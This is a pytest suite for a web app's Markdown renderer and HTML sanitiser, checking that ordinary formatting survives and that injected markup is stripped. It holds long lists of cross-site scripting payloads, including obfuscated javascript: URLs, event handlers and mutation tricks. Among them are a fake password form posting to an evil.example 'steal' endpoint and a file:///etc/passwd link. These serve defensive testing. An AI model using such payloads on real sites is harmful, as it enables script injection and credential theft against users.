"""Article text: what survives the Markdown renderer and the sanitiser, and what never does."""

import re
from html.parser import HTMLParser

import pytest

from app.markup import clean, render, render_html

ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
ALLOWED_ATTRIBUTES = {"href", "title", "src", "alt", "id", "start", "scope", "class", "rel", "data-label"}


class _Elements(HTMLParser):
    """Every element a browser would build from the markup, with its (decoded) attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(markup: str) -> list[tuple[str, dict]]:
    parser = _Elements()
    parser.feed(str(markup))
    parser.close()
    return parser.elements


def scheme_of(url: str) -> str | None:
    """The scheme a browser would see: it drops leading controls/spaces and every tab or newline."""
    url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(chr(c) for c in range(0x21)))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", url)
    return match.group(1).lower() if match else None


def assert_safe(markup: str) -> None:
    for tag, attrs in elements(markup):
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {markup!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name} survived in {markup!r}"
            # data-label is the renderer's own (a table cell's column heading, for the stacked
            # rows of a phone): text in an attribute no script reads.
            assert (name == "data-label" and tag == "td") or not name.startswith(("hx-", "data-")), (
                f"{name} survived in {markup!r}"
            )
            assert name in ALLOWED_ATTRIBUTES, f"{name} survived in {markup!r}"
            if name in ("href", "src"):
                assert scheme_of(value or "") in SAFE_SCHEMES | {None}, f"{name}={value!r} survived in {markup!r}"


# Raw HTML: what someone might paste, or what might reach the sanitiser from elsewhere.
HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<IMG SRC="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VbScRiPt:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">cover</span>',
    '<div hx-get="/admin/people" hx-trigger="load">x</div>',
    '<a hx-post="/sign-out" hx-trigger="mouseover" href="#">x</a>',
    '<p hx-on:click="alert(1)">x</p>',
    '<p hx-on::after-request="alert(1)">x</p>',
    '<p data-hx-get="/admin" data-hx-trigger="load">x</p>',
    '<span data-module="govuk-button" data-x="1">x</span>',
    '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="https://example.com" target="_blank" onclick="alert(1)">x</a>',
    # Nested and malformed
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    '<img """><script>alert(1)</script>">',
    '<a href="https://ok.example"<script>alert(1)</script>>x</a>',
    "<div><p><b onclick=alert(1)>x</div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<style><img src=x onerror=alert(1)></style>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_clean_removes_anything_that_could_run_script_or_fake_the_page(attack):
    assert_safe(clean(attack))


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_pasting_html_into_an_article_shows_it_as_text_not_markup(attack):
    assert_safe(render(attack).html)


def test_script_and_style_contents_are_dropped_not_shown():
    assert clean("<script>alert(1)</script><style>body{display:none}</style><p>Hello</p>") == "<p>Hello</p>"


def test_raw_html_in_markdown_is_escaped_text():
    result = str(render("Before <img src=x onerror=alert(1)> after").html)
    assert "<img" not in result
    assert "&lt;img src=x onerror=alert(1)&gt;" in result


# Markdown: link and image destinations are where schemes sneak in.
MARKDOWN_ATTACKS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](jav&#9;ascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "[click][evil]\n\n[evil]: <jav&#x09;ascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](DaTa:image/gif;base64,R0lGODlh)",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    '[x" onclick="alert(1)](https://ok.example/)',
    '## Heading" onmouseover="alert(1)',
    "## <img src=x onerror=alert(1)>",
    "## [x](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "- [ ] <svg onload=alert(1)>",
    "> <iframe src=https://evil.example>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
]


def test_each_table_cell_is_labelled_with_its_column_heading_for_phones():
    html = render_html('| Room | **Seats** |\n|---|---|\n| Chamber | 60 |\n| "Annexe" | 12 | 3 |')

    cells = [attrs.get("data-label") for tag, attrs in elements(html) if tag == "td"]

    assert cells == ["Room", "Seats", "Room", "Seats"]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_links_and_images_never_run_script(attack):
    rendered = render(attack)
    assert_safe(rendered.html)
    for heading in rendered.headings:
        assert re.fullmatch(r"section-[a-z0-9-]+", heading["id"])


def test_data_and_script_images_lose_their_source():
    for markdown in ("![x](data:image/png;base64,iVBORw0KGgo=)", "![x](javascript:alert(1))"):
        images = [attrs for tag, attrs in elements(render(markdown).html) if tag == "img"]
        assert all("src" not in attrs for attrs in images)


def test_code_blocks_show_html_as_text():
    result = str(render("```\n<script>alert(1)</script>\n```").html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result
    assert "<script" not in result


def test_ordinary_formatting_survives():
    result = str(render("Some **bold**, *emphasis*, ~~struck~~ and `code`.\n\n> Quoted\n\n1. One\n2. Two").html)
    for fragment in (
        "<strong>bold</strong>",
        "<em>emphasis</em>",
        "<s>struck</s>",
        "<code>code</code>",
        "<blockquote>",
        "<ol>",
        "<li>One</li>",
    ):
        assert fragment in result


def test_safe_links_keep_their_address():
    result = str(
        render(
            "[GOV.UK](https://www.gov.uk/) [email](mailto:pa@council.test) [phone](tel:+441234567890) "
            "[page](/kb/booking-rooms)"
        ).html
    )
    hrefs = [attrs["href"] for tag, attrs in elements(result) if tag == "a"]
    assert hrefs == ["https://www.gov.uk/", "mailto:pa@council.test", "tel:+441234567890", "/kb/booking-rooms"]


def test_external_links_open_safely_with_noopener_noreferrer():
    links = [attrs for tag, attrs in elements(render("[GOV.UK](https://www.gov.uk/)").html) if tag == "a"]
    assert links == [{"href": "https://www.gov.uk/", "rel": "noopener noreferrer"}]


def test_pasted_links_get_noopener_and_lose_target_and_their_own_rel():
    links = [
        attrs
        for tag, attrs in elements(clean('<a href="https://evil.example/" target="_blank" rel="opener">x</a>'))
        if tag == "a"
    ]
    assert links == [{"href": "https://evil.example/", "rel": "noopener noreferrer"}]


def test_tables_render_with_column_headers():
    result = str(render("| Room | Capacity |\n|---|---:|\n| Chamber | 80 |\n| Room 2 | 12 |").html)
    tags_and_attributes = elements(result)
    assert [tag for tag, _ in tags_and_attributes if tag in ("table", "thead", "tbody")] == ["table", "thead", "tbody"]
    assert [attrs for tag, attrs in tags_and_attributes if tag == "th"] == [{"scope": "col"}, {"scope": "col"}]
    assert '<td data-label="Room">Chamber</td>' in result
    assert '<th scope="col">Capacity</th>' in result  # alignment styles are dropped, the header stays


def test_task_lists_show_done_and_to_do_in_words_without_checkboxes():
    result = str(render("- [ ] Book the room\n- [x] Send the agenda").html)
    assert "<input" not in result
    assert 'class="contains-task-list"' in result
    assert "To do: </span> Book the room" in result
    assert "Done: </span> Send the agenda" in result
    assert result.count('class="task-list-item"') == 2


def test_top_heading_becomes_h2_and_the_rest_follow():
    result = str(render("# Booking\n\n## Before you start\n\n### Catering").html)
    assert "<h1" not in result
    assert '<h2 id="section-booking">Booking</h2>' in result
    assert '<h3 id="section-before-you-start">Before you start</h3>' in result
    assert '<h4 id="section-catering">Catering</h4>' in result


def test_an_article_starting_at_h3_still_starts_at_h2():
    result = str(render("### Steps\n\n#### Detail").html)
    assert '<h2 id="section-steps">Steps</h2>' in result
    assert '<h3 id="section-detail">Detail</h3>' in result


def test_headings_deeper_than_h6_stay_h6():
    result = str(render("# One\n\n###### Six").html)
    assert '<h6 id="section-six">Six</h6>' in result


def test_table_of_contents_lists_h2_and_h3_with_their_ids():
    rendered = render("# Booking a room\n\n## Before you start\n\n### Very deep\n\n## Steps")
    assert rendered.headings == [
        {"level": 2, "text": "Booking a room", "id": "section-booking-a-room"},
        {"level": 3, "text": "Before you start", "id": "section-before-you-start"},
        {"level": 3, "text": "Steps", "id": "section-steps"},
    ]


def test_repeated_headings_get_different_ids():
    rendered = render("## Notes\n\n## Notes\n\n## Notes")
    assert [heading["id"] for heading in rendered.headings] == ["section-notes", "section-notes-2", "section-notes-3"]
    for anchor in ("section-notes", "section-notes-2", "section-notes-3"):
        assert f'id="{anchor}"' in str(rendered.html)


def test_contents_entries_are_plain_words_without_markdown():
    rendered = render("## **Who** to [contact](https://example.com)")
    assert rendered.headings[0]["text"] == "Who to contact"


def test_empty_text_renders_nothing():
    assert str(render("").html) == ""
    assert render(None).headings == []
